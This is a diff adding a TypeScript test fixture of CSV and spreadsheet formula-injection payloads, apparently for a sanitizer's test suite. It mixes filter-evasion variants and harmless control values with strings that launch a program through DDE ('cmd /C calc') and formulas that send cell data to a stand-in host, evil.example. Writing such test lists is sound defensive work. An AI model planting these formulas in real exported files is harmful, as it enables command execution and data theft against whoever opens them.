@@ -1,0 +1,53 @@
+const commands = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=WEBSERVICE("http://evil.example")',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+] as const
+
+const before = [
+  '',
+  ' ',
+  '\t',
+  '\n',
+  '\r\n',
+  '"',
+  '",',
+  ';',
+  "'",
+  '|',
+  '\u00a0',
+  '\u200b',
+  '\ufeff',
+  '\u202e',
+] as const
+
+/** Sixty ways to make a spreadsheet calculate, none twice, and what must stay as it is. */
+export const payloads: readonly string[] = [
+  ...new Set([
+    ...commands,
+    ...before.flatMap((lead) => [`${lead}=1+1`, `${lead}@x`, `${lead}-x`]),
+    'a,=1+1',
+    'a;=1+1',
+    'a\n=1+1',
+    'a"=1+1"',
+    'a\t=1+1',
+    '-12.500',
+    '12',
+    '007',
+    'plain',
+    'a, -b',
+    'بطاقة "الدفع"، 24',
+    'line\r\nline',
+  ]),
+]
